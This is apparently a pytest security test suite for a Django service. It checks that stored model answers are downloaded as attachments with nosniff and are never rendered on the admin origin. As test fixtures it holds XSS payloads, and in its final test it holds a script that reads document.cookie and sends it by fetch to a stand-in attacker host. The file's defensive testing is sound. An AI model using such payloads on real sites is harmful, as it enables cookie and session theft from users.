"""A stored answer is never served as a page: a model that answers ``text/html`` with a
script, or SVG, has its result downloaded as bytes (``application/octet-stream``), a JSON
answer as ``application/json``, always as an attachment with ``nosniff``; on the live
API, on an S3 bucket's presigned URL, and in a real browser logged in to the admin,
where the answer's script would read the CSRF cookie if it ran on the admin's origin."""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest
import requests
from django.contrib.auth import get_user_model

from asynch.models import AsynchTask
from tests.support.asynch_fixtures import make_model, run_queue, tenant_client
from tests.support.s3 import s3_server_fixture  # noqa: F401  (fixture)
from tests.support.security.egress import (  # noqa: F401  (fixtures)
    ARTIFACTS,
    ATTACKER_HOST,
    MODEL_HOST,
    Seen,
    browser_fixture,
    drain,
    module_api,
    recording,
    shared_var,
    tenant_http,
    wait_a_moment_for,
)

pytestmark = [pytest.mark.slow, pytest.mark.django_db(transaction=True)]


@pytest.fixture(scope="module")
def api(django_db_setup, django_db_blocker, tmp_path_factory):
    """The live API, with the admin's stylesheets: the browser sees the admin as it is."""
    yield from module_api(django_db_blocker, tmp_path_factory, static=True)


HTML = b"<!doctype html><html><body><h1>answer</h1><script>document.title='RAN'</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
JSON_AS_HTML = b'{"text": "<script>alert(1)</script>"}'  # JSON, whatever the model calls it

ANSWERS = {
    "/html": ("text/html; charset=utf-8", HTML),
    "/svg": ("image/svg+xml", SVG),
    "/json": ("application/json", b'{"answer": 42}'),
    "/json-as-html": ("text/html", JSON_AS_HTML),
    "/xml": ("application/xml", b"<?xml version='1.0'?><a/>"),
}


def _model(seen: Seen) -> tuple[int, dict[str, str], bytes]:
    content_type, body = ANSWERS[seen.path]
    return 200, {"Content-Type": content_type}, body


def _download(url: str) -> requests.Response:
    response = requests.get(url, timeout=10)
    assert response.status_code == 200, response.text
    return response


@pytest.mark.parametrize(
    ("route", "media_type", "extension"),
    [
        ("/html", "application/octet-stream", ".bin"),
        ("/svg", "application/octet-stream", ".bin"),
        ("/xml", "application/octet-stream", ".bin"),
        ("/json", "application/json", ".json"),
        ("/json-as-html", "application/json", ".json"),
    ],
)
def test_a_download_is_json_or_bytes_and_always_an_attachment(api, shared_var, route, media_type, extension):  # noqa: F811
    admin, biz = tenant_http(api, "ops", is_admin=True), tenant_http(api, "biz")
    with recording(MODEL_HOST, _model) as model:
        assert admin.create_model("m", model.url, route=route).status_code == 201
        task_id = biz.create_task("m")
        assert drain()["succeeded"] == 1
    oss_file = biz.result(task_id)["ossFile"]
    download = _download(oss_file)
    assert download.content == ANSWERS[route][1]  # the answer as it came
    assert download.headers["Content-Type"] == media_type
    disposition = download.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and f'filename="{task_id}{extension}"' in disposition
    assert download.headers["X-Content-Type-Options"] == "nosniff"
    assert AsynchTask.objects.get(id=task_id).oss_file.endswith(extension)


def test_the_schema_says_a_download_is_json_or_bytes(api):
    schema = requests.get(api.url + "/api/schema", headers={"Accept": "application/json"}, timeout=30)
    (operation,) = (item["get"] for path, item in schema.json()["paths"].items() if path.startswith("/task/download/"))
    assert set(operation["responses"]["200"]["content"]) == {"application/json", "application/octet-stream"}


def test_an_s3_object_is_stored_and_served_as_an_attachment_of_its_media_type(s3_server, settings, tmp_path):
    bucket = s3_server.create_bucket("security-downloads")
    for key, value in s3_server.settings(bucket).items():
        setattr(settings, key, value)
    settings.ASYNCH_ALLOWED_MODEL_HOSTS = [MODEL_HOST]
    settings.VAR_DIR = tmp_path
    settings.ASYNCH_SEMAPHORE_REDIS_URL = ""
    with recording(MODEL_HOST, _model) as model:
        make_model("html", base_url=model.url, route="/html")
        make_model("json", base_url=model.url, route="/json")
        biz = tenant_client("biz")
        html = biz.create_task("html").json()["taskId"]
        answer = biz.create_task("json").json()["taskId"]
        assert sorted(run_queue()) == ["succeeded", "succeeded"]
    client = s3_server.client()
    for task_id, media_type, extension in (
        (html, "application/octet-stream", ".bin"),
        (answer, "application/json", ".json"),
    ):
        key = f"asynch/{biz.tenant.id}/{task_id}{extension}"
        head = client.head_object(Bucket=bucket, Key=key)
        assert head["ContentType"] == media_type and head["ContentDisposition"] == "attachment"
        download = _download(biz.get("/task/getTaskResult", {"taskId": task_id}).json()["ossFile"])
        assert download.headers["Content-Type"] == media_type
        assert download.headers["Content-Disposition"] == "attachment"


def test_a_browser_logged_in_to_the_admin_runs_no_script_of_a_downloaded_answer(api, shared_var, browser, settings):  # noqa: F811
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.PBKDF2PasswordHasher"]  # one the live API checks
    get_user_model().objects.create_superuser("operator", "op@example.com", "correct horse")
    admin, biz = tenant_http(api, "ops", is_admin=True), tenant_http(api, "biz")
    with recording(ATTACKER_HOST) as attacker:
        steal = (
            f"<!doctype html><html><head><title>answer</title></head><body><h1>PWNED</h1>"
            f"<img src='{attacker.url}/img'>"
            f"<script>localStorage.setItem('pwned', document.cookie); document.title = 'RAN';"
            f"fetch('{attacker.url}/steal?c=' + encodeURIComponent(document.cookie), {{mode: 'no-cors'}});</script>"
            f"</body></html>"
        ).encode()
        with recording(MODEL_HOST, lambda seen: (200, {"Content-Type": "text/html"}, steal)) as model:
            assert admin.create_model("m", model.url).status_code == 201
            task_id = biz.create_task("m")
            assert drain()["succeeded"] == 1
        oss_file = biz.result(task_id)["ossFile"]
        assert urlsplit(oss_file).netloc == urlsplit(api.url).netloc  # served on the admin's origin

        context = browser.new_context(viewport={"width": 1200, "height": 800}, accept_downloads=True)
        page = context.new_page()
        page.goto(f"{api.url}/admin/")
        page.fill("#id_username", "operator")
        page.fill("#id_password", "correct horse")
        page.click("input[type=submit]")
        page.wait_for_url(f"{api.url}/admin/")
        assert page.locator("#user-tools").inner_text().upper().startswith("WELCOME")  # logged in
        cookies = {cookie["name"]: cookie for cookie in context.cookies()}
        assert not cookies["csrftoken"]["httpOnly"]  # what a script on this origin could read

        downloads: list = []
        page.on("download", lambda started: downloads.append(started))
        try:
            page.goto(oss_file)
        except Exception as navigation:  # a download is no page: the navigation is aborted
            assert "Download is starting" in str(navigation) or "ERR_ABORTED" in str(navigation)
        wait_a_moment_for(attacker, seconds=2)
        ARTIFACTS.mkdir(parents=True, exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / "security-download-admin-origin.png"), full_page=True)

        assert not attacker.touched(), [seen.path for seen in attacker.seen]  # no script ran, no image loaded
        assert page.url == f"{api.url}/admin/" and page.title() != "RAN"  # still the admin's page
        assert page.evaluate("localStorage.getItem('pwned')") is None
        (download,) = downloads  # the answer became a file, never a document
        assert download.suggested_filename == f"{task_id}.bin"
        assert download.path().read_bytes() == steal
        context.close()
